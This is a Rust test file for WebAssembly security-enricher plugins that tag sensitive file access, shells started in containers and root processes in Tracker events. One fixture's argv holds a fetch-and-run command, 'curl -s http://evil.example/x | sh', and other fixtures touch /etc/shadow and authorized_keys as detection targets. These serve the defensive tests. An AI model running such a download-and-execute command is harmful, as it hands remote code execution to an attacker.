//! The example plugins of `enrichers-wasm/examples/` (C, Zig, WAT), built from source by their
//! `build.sh` and run in the host: their imports and exports, and the exact fields and Info they
//! produce on matching and non-matching events. Needs clang, wasm-ld and Zig 0.13 (see build.sh).

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::OnceLock;
use std::time::{SystemTime, UNIX_EPOCH};

use trackershark_enrich::rules::Registry;
use trackershark_enrich::{engine, Limits, ModuleCache, Plugin};

/// How many tests below use the build directory; the last to finish removes it.
const USERS: usize = 6;
static FINISHED: AtomicUsize = AtomicUsize::new(0);

/// The directory build.sh built the examples into (once per test run).
struct Built(&'static Path);

impl Drop for Built {
    fn drop(&mut self) {
        if FINISHED.fetch_add(1, Ordering::SeqCst) + 1 == USERS {
            let _ = fs::remove_dir_all(self.0);
        }
    }
}

fn built() -> Built {
    static DIR: OnceLock<PathBuf> = OnceLock::new();
    let dir = DIR.get_or_init(|| {
        let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("..");
        let nanos = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_nanos();
        let out = std::env::temp_dir().join(format!("trackershark-examples-{}-{nanos}", std::process::id()));
        let run = Command::new("bash")
            .arg(root.join("enrichers-wasm/examples/build.sh"))
            .arg(&out)
            .output()
            .expect("bash runs");
        let say = |b: &[u8]| String::from_utf8_lossy(b).into_owned();
        assert!(run.status.success(), "build.sh failed ({}):\n{}\n{}", run.status, say(&run.stdout), say(&run.stderr));
        out
    });
    Built(dir)
}

fn load(dir: &Path, file: &str) -> Plugin {
    let bytes = fs::read(dir.join(file)).unwrap_or_else(|e| panic!("{file}: {e}"));
    Plugin::load(&engine(), file, &bytes, Limits::default()).unwrap_or_else(|e| panic!("{file}: {e}"))
}

/// The fields (abbrev, value) and Info text the plugin gives an event; it logs nothing.
fn run(p: &mut Plugin, event: &str) -> (Vec<(String, String)>, Option<String>) {
    let shown: String = event.chars().take(300).collect();
    let out = p.enrich(event.as_bytes()).unwrap_or_else(|e| panic!("{e} on {shown}"));
    assert!(out.logs.is_empty(), "{:?}", out.logs);
    let fields = out.fields.into_iter().map(|(i, v)| (p.fields()[i].abbrev.clone(), v)).collect();
    (fields, out.info)
}

fn field(abbrev: &str, value: &str) -> Vec<(String, String)> {
    vec![(abbrev.to_string(), value.to_string())]
}

#[test]
fn each_module_exports_the_abi_and_imports_only_host_functions() {
    let dir = built();
    let cases: [(&str, &[&str]); 3] = [
        ("c_sensitive_path.wasm", &["add_field", "declare_field", "set_info"]),
        ("zig_container_shell.wasm", &["add_field", "declare_field", "set_info"]),
        ("uid_zero.wat", &["add_field", "declare_field"]),
    ];
    for (file, want_imports) in cases {
        let bytes = fs::read(dir.0.join(file)).unwrap();
        let module = wasmtime::Module::new(&engine(), &bytes).unwrap();
        let mut imports: Vec<String> = module
            .imports()
            .map(|i| {
                assert_eq!(i.module(), "trackershark", "{file} imports {}.{}", i.module(), i.name());
                assert!(matches!(i.ty(), wasmtime::ExternType::Func(_)), "{file}: {} is not a function", i.name());
                i.name().to_string()
            })
            .collect();
        imports.sort();
        assert_eq!(imports, want_imports, "{file}");
        let mut exports: Vec<&str> = module.exports().map(|e| e.name()).collect();
        exports.sort();
        assert_eq!(exports, ["alloc", "describe", "enrich", "memory", "trackershark_abi_version"], "{file}");
        assert!(matches!(module.get_export("memory"), Some(wasmtime::ExternType::Memory(_))), "{file}");
    }
}

#[test]
fn c_sensitive_path_tags_sensitive_files() {
    let dir = built();
    let mut p = load(dir.0, "c_sensitive_path.wasm");
    assert_eq!(p.fields().len(), 1);
    assert_eq!((p.fields()[0].abbrev.as_str(), p.fields()[0].name.as_str()), ("c_sensitive_path", "Sensitive Path"));

    // read of /etc/shadow: any access counts
    let shadow = r#"{"eventName":"security_file_open","eventId":730,"processName":"cat","userId":1000,"containerId":"","args":{"pathname":"/etc/shadow","flags":"O_RDONLY|O_LARGEFILE","dev":271581185}}"#;
    assert_eq!(
        run(&mut p, shadow),
        (
            field("c_sensitive_path", "/etc/shadow"),
            Some("sensitive file /etc/shadow touched by cat (security_file_open)".into())
        )
    );

    // /etc/passwd only when it may be modified: not a read-only open (flags as a number or as names)
    let passwd_read =
        r#"{"eventName":"openat","processName":"id","args":{"dirfd":-100,"pathname":"/etc/passwd","flags":524288}}"#;
    assert_eq!(run(&mut p, passwd_read), (vec![], None));
    let passwd_write = r#"{"eventName":"openat","processName":"vipw","args":{"dirfd":-100,"pathname":"/etc/passwd","flags":"O_WRONLY|O_CREAT|O_TRUNC"}}"#;
    assert_eq!(
        run(&mut p, passwd_write),
        (field("c_sensitive_path", "/etc/passwd"), Some("sensitive file /etc/passwd touched by vipw (openat)".into()))
    );
    let passwd_rdwr = r#"{"eventName":"openat","processName":"sed","args":{"pathname":"/etc/passwd","flags":66}}"#;
    assert_eq!(run(&mut p, passwd_rdwr).0, field("c_sensitive_path", "/etc/passwd"));

    // no flags (an unlink), spaces and escapes in the JSON, no processName
    let unlink = "{ \"eventName\" : \"unlinkat\", \"args\" : { \"dirfd\" : -100, \"pathname\" : \"\\/root\\/.ssh\\/authorized_keys\" } }";
    assert_eq!(
        run(&mut p, unlink),
        (
            field("c_sensitive_path", "/root/.ssh/"),
            Some("sensitive file /root/.ssh/authorized_keys touched (unlinkat)".into())
        )
    );
    let unicode = r#"{"eventName":"magic_write","processName":"t\u00e9e","args":{"pathname":"/etc/sudoers.d/caf\u00e9 \ud83d\ude00"}}"#;
    assert_eq!(
        run(&mut p, unicode),
        (
            field("c_sensitive_path", "/etc/sudoers"),
            Some("sensitive file /etc/sudoers.d/café 😀 touched by tée (magic_write)".into())
        )
    );

    // not sensitive; a pathname only in a nested object or in the triggering event; no args
    for other in [
        r#"{"eventName":"security_file_open","processName":"cat","args":{"pathname":"/etc/hosts","flags":0}}"#,
        r#"{"eventName":"openat","processName":"cat","args":{"pathname":"etc/shadow"}}"#,
        r#"{"eventName":"x","processName":"cat","args":{"nested":{"pathname":"/etc/shadow"}}}"#,
        r#"{"eventName":"x","signature":{"id":"TRC-1"},"triggeredBy":{"eventName":"openat","args":{"pathname":"/etc/shadow"}}}"#,
        r#"{"eventName":"x","processName":"/etc/shadow"}"#,
    ] {
        assert_eq!(run(&mut p, other), (vec![], None), "{other}");
    }
}

#[test]
fn zig_container_shell_flags_shells_in_containers() {
    let dir = built();
    let mut p = load(dir.0, "zig_container_shell.wasm");
    assert_eq!(p.fields().len(), 1);
    assert_eq!(
        (p.fields()[0].abbrev.as_str(), p.fields()[0].name.as_str()),
        ("zig_container_shell", "Container Shell")
    );

    let bash = r#"{"eventName":"sched_process_exec","processName":"bash","userId":0,"containerId":"c373adfdc4ac4c3a330c4fda09ad9398bcfb99c381b97cb044c813a397547def","containerName":"web","args":{"cmdpath":"/bin/bash","pathname":"/usr/bin/bash","argv":["bash","-c","id; curl -s http://evil.example/x | sh"],"inode":1746}}"#;
    assert_eq!(
        run(&mut p, bash),
        (
            field("zig_container_shell", "/usr/bin/bash in web"),
            Some("shell /usr/bin/bash started in container web: bash -c id; curl -s http://evil.example/x | sh".into())
        )
    );

    // busybox: the file is /bin/busybox, the path run /bin/sh; no container name; spaces in the JSON
    let busybox = r#"{ "eventName": "sched_process_exec", "containerId": "f70b1fa503a2e0c8d1bf9a2f3f8a33e4c1d1bd4c23b4e6b6e8a1a7a6d2c7e1f0", "containerName": "", "args": { "cmdpath": "/bin/sh", "pathname": "/bin/busybox", "argv": [ "sh" ] } }"#;
    assert_eq!(
        run(&mut p, busybox),
        (
            field("zig_container_shell", "/bin/sh in f70b1fa503a2"),
            Some("shell /bin/sh started in container f70b1fa503a2: sh".into())
        )
    );

    // no argv
    let dash = r#"{"eventName":"sched_process_exec","containerId":"abc","containerName":"db","args":{"pathname":"/usr/bin/dash"}}"#;
    assert_eq!(
        run(&mut p, dash),
        (
            field("zig_container_shell", "/usr/bin/dash in db"),
            Some("shell /usr/bin/dash started in container db".into())
        )
    );

    for other in [
        // on the host
        r#"{"eventName":"sched_process_exec","containerId":"","args":{"pathname":"/usr/bin/bash","argv":["bash"]}}"#,
        r#"{"eventName":"sched_process_exec","args":{"pathname":"/usr/bin/bash","argv":["bash"]}}"#,
        // not a shell
        r#"{"eventName":"sched_process_exec","containerId":"abc","args":{"pathname":"/usr/bin/curl","cmdpath":"/usr/bin/curl"}}"#,
        r#"{"eventName":"sched_process_exec","containerId":"abc","args":{"pathname":"/usr/bin/bashbug"}}"#,
        r#"{"eventName":"sched_process_exec","containerId":"abc","args":{"pathname":"/usr/bin/fish"}}"#,
        // not an exec
        r#"{"eventName":"security_file_open","containerId":"abc","args":{"pathname":"/bin/sh"}}"#,
        r#"{"eventName":"sched_process_exec","containerId":"abc","args":{"nested":{"pathname":"/bin/sh"}}}"#,
    ] {
        assert_eq!(run(&mut p, other), (vec![], None), "{other}");
    }
}

#[test]
fn wat_root_marks_user_zero() {
    let dir = built();
    let mut p = load(dir.0, "uid_zero.wat");
    assert_eq!(p.fields().len(), 1);
    assert_eq!((p.fields()[0].abbrev.as_str(), p.fields()[0].name.as_str()), ("wat_root", "Root Process"));

    let root = r#"{"eventName":"openat","processName":"cron","userId":0,"args":{"pathname":"/etc/crontab"}}"#;
    assert_eq!(run(&mut p, root), (field("wat_root", "yes"), None));
    let spaced = "{\"eventName\": \"openat\", \"userId\" :\t0 }";
    assert_eq!(run(&mut p, spaced), (field("wat_root", "yes"), None));
    let last = r#"{"eventName":"openat","userId":0}"#;
    assert_eq!(run(&mut p, last), (field("wat_root", "yes"), None));

    for other in [
        r#"{"eventName":"openat","processName":"bash","userId":1000}"#,
        r#"{"eventName":"openat","processName":"bash","userId":0.5}"#,
        r#"{"eventName":"openat","processName":"\"userId\":0","userId":1000}"#,
        r#"{"eventName":"openat","processName":"bash"}"#,
        "",
    ] {
        assert_eq!(run(&mut p, other), (vec![], None), "{other}");
    }
}

#[test]
fn large_events_fit_the_default_budget() {
    let dir = built();
    // 10000 words (about 120 KiB; Tracker's events are rarely above a few KiB), placed where the
    // plugins must walk past them
    let words: Vec<String> = (0..10_000).map(|i| format!("\"word{i:05}\"")).collect();
    let argv = words.join(",");
    let exec = format!(
        r#"{{"eventName":"sched_process_exec","processName":"sh","containerId":"abc","containerName":"big","args":{{"pathname":"/bin/sh","argv":[{argv}]}},"userId":0}}"#
    );
    let (fields, info) = run(&mut load(dir.0, "zig_container_shell.wasm"), &exec);
    assert_eq!(fields, field("zig_container_shell", "/bin/sh in big"));
    let info = info.unwrap();
    assert!(info.starts_with("shell /bin/sh started in container big: word00000 word00001 "), "{}", &info[..80]);
    assert_eq!(info.len(), 8192, "Info is cut at the plugin's buffer");

    let open = format!(
        r#"{{"eventName":"openat","processName":"cat","args":{{"padding":[{argv}],"pathname":"/etc/shadow"}},"userId":0}}"#
    );
    let (fields, _) = run(&mut load(dir.0, "c_sensitive_path.wasm"), &open);
    assert_eq!(fields, field("c_sensitive_path", "/etc/shadow"));
    let (fields, _) = run(&mut load(dir.0, "uid_zero.wat"), &open);
    assert_eq!(fields, field("wat_root", "yes"));
}

#[test]
fn the_rules_file_runs_the_examples_on_dissected_tracker_lines() {
    let dir = built();
    let mut reg = Registry::open_with_cache(&dir.0.join("rules.toml"), ModuleCache::disabled());
    assert_eq!(reg.last_error, None);
    let set = reg.rules().expect("the rules load");
    let names: Vec<&str> = set.rules.iter().map(|r| r.plugin.name.as_str()).collect();
    assert_eq!(names, ["c_sensitive_path", "zig_container_shell", "wat_root"]);

    // Tracker's classic JSON lines, as Wireshark reads them
    let open = r#"{"timestamp":1696255674450496178,"processId":1014858,"threadId":1014858,"parentProcessId":1729,"hostProcessId":1014858,"hostThreadId":1014858,"hostParentProcessId":1729,"userId":1000,"processName":"python3","hostName":"rugged","containerId":"","container":{},"kubernetes":{},"eventId":"730","eventName":"security_file_open","argsNum":2,"returnValue":0,"syscall":"openat","args":[{"name":"pathname","type":"const char*","value":"/etc/shadow"},{"name":"flags","type":"string","value":"O_RDONLY|O_LARGEFILE"}]}"#;
    let exec = r#"{"timestamp":1700000000123456789,"processId":37,"threadId":37,"parentProcessId":1,"hostProcessId":191684,"hostThreadId":191684,"hostParentProcessId":191677,"userId":0,"processName":"sh","hostName":"web-7d4b9c-x2x9q","container":{"id":"c373adfdc4ac4c3a330c4fda09ad9398bcfb99c381b97cb044c813a397547def","name":"web","image":"docker.io/library/nginx:1.25"},"kubernetes":{"podName":"web-7d4b9c-x2x9q","podNamespace":"shop"},"eventId":"707","eventName":"sched_process_exec","argsNum":3,"returnValue":0,"syscall":"execve","args":[{"name":"cmdpath","type":"const char*","value":"/bin/sh"},{"name":"pathname","type":"const char*","value":"/bin/dash"},{"name":"argv","type":"const char**","value":["sh","-c","id"]}]}"#;

    let mut results = Vec::new();
    for line in [open, exec] {
        let d = trackershark_engine::dissect(line.as_bytes());
        for (i, out) in set.run(&d, line.as_bytes()) {
            let rule = &set.rules[i];
            let out = out.unwrap_or_else(|e| panic!("{}: {e}", rule.plugin.name));
            for (f, v) in out.fields {
                results.push(format!("{}: {} = {v}", rule.plugin.name, rule.plugin.fields()[f].abbrev));
            }
            if let Some(info) = out.info {
                results.push(format!("{}: Info = {info}", rule.plugin.name));
            }
        }
    }
    assert_eq!(
        results,
        [
            "c_sensitive_path: c_sensitive_path = /etc/shadow",
            "c_sensitive_path: Info = sensitive file /etc/shadow touched by python3 (security_file_open)",
            "zig_container_shell: zig_container_shell = /bin/dash in web",
            "zig_container_shell: Info = shell /bin/dash started in container web: sh -c id",
            "wat_root: wat_root = yes",
        ]
    );
}
